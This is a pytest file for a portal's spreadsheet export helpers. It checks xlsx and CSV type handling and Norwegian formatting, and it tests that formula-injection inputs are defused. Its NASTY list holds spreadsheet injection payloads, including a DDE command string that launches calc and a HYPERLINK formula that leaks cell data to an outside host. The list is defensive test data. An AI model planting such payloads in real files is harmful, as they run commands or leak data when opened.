"""Tables that leave the portal, read back by another program than the one that wrote them."""

import csv
import datetime
from decimal import Decimal
from io import BytesIO, StringIO
from typing import Any

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from portal.lib.sheets import Table, Value, csv_file, defused, xlsx

MOMENT = datetime.datetime(2026, 7, 1, 22, 30, tzinfo=datetime.UTC)
# What spreadsheets have been made to run.
NASTY = (
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://example.org?"&A1)', "+1+1", "-2+3", "@SUM(1)",
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1", "＝1+1", "＋1", "－1", "＠A",
    "+47 77 00 00 00;=1+1", "+1-1", '"=1+1"', "=\u0000A1",
)  # fmt: skip
PLAIN = ("Berg", "Bø i Vesterålen", "+47 77 00 00 00", "+4777000000", "77 00 00 00", "a=b", "1-2")


def table(*rows: list[Value]) -> Table:
    width = max(map(len, rows))
    return Table(
        "Saker", [f"Kolonne {n}" for n in range(width)], rows, [("Rader", len(rows))], "Om"
    )


def read(content: bytes) -> Any:
    """The workbook, formulas not worked out: a cell that is one says so."""
    return load_workbook(BytesIO(content))


def test_workbook_keeps_days_as_days_numbers_as_numbers_and_text_as_text() -> None:
    row: list[Value] = [
        "0042", 42, Decimal("1.5"), datetime.date(2026, 2, 3), MOMENT, None, "=1+1",
    ]  # fmt: skip
    book = read(xlsx(table(row)))
    assert book.sheetnames == ["Saker", "Om"]
    heading, cells = book["Saker"].iter_rows()
    assert [cell.value for cell in heading][:2] == ["Kolonne 0", "Kolonne 1"]
    assert heading[0].font.bold
    assert [cell.data_type for cell in cells] == ["s", "n", "n", "d", "d", "n", "s"]
    day, clock = cells[3].value, cells[4].value
    assert (day, clock) == (
        datetime.datetime(2026, 2, 3), datetime.datetime(2026, 7, 2, 0, 30),
    )  # fmt: skip
    assert cells[3].number_format == "dd.mm.yyyy"
    assert (cells[0].value, cells[1].value, cells[2].value) == ("0042", 42, 1.5)
    assert [cell.value for cell in next(book["Om"].iter_rows())] == ["Rader", 1]
    assert book.properties.creator == "Landgang"


@pytest.mark.parametrize("text", NASTY)
def test_nothing_that_people_typed_is_run_by_a_spreadsheet(text: str) -> None:
    (cell,) = list(read(xlsx(table([text])))["Saker"].iter_rows())[1]
    assert cell.data_type in ("s", "inlineStr")
    assert cell.value.strip() == text.replace("\0", "").strip()
    assert cell.quotePrefix == (text[0] != '"')
    if text[0] != '"':
        assert defused(text) == f"'{text}"
        read_back = next(iter(list(csv.reader(StringIO(in_csv([text])), delimiter=";"))[1:]))
        assert read_back[0].startswith("'")


@pytest.mark.parametrize("text", PLAIN)
def test_what_is_harmless_is_left_alone(text: str) -> None:
    assert defused(text) == text
    (cell,) = list(read(xlsx(table([text])))["Saker"].iter_rows())[1]
    assert (cell.value, cell.quotePrefix) == (text, text.startswith("+"))


def in_csv(row: list[Value]) -> str:
    content = csv_file(table(row))
    assert content.startswith(b"\xef\xbb\xbf")
    return content.decode("utf-8-sig")


def test_csv_is_one_for_a_norwegian_spreadsheet() -> None:
    text = in_csv(["Bø; «kafé»", 42, Decimal("-1.5"), datetime.date(2026, 2, 3), MOMENT, None])
    assert text.splitlines()[1] == '"Bø; «kafé»";42;-1,5;03.02.2026;02.07.2026 00:30;'
    assert text.endswith("\r\n")
    # A negative number is a number, and no formula.
    assert in_csv([-3]).splitlines()[1] == "-3"


def test_a_file_with_characters_that_no_document_may_hold_opens() -> None:
    assert timezone.is_aware(MOMENT)
    (cell,) = list(read(xlsx(table(["a\x00b\x0bc\ufffe\ud800d"])))["Saker"].iter_rows())[1]
    assert cell.value == "abcd"
    assert "abcd" in in_csv(["a\x00b\x0bc\ufffe\ud800d"])


def test_sheet_with_an_impossible_name_and_no_rows_opens() -> None:
    empty = Table("Saker: [alle] " + "x" * 40, ["a"], [])
    assert read(xlsx(empty)).sheetnames == ["Saker   alle  xxxxxxxxxxxxxxxxx"]
    assert csv_file(empty).decode("utf-8-sig") == "a\r\n"
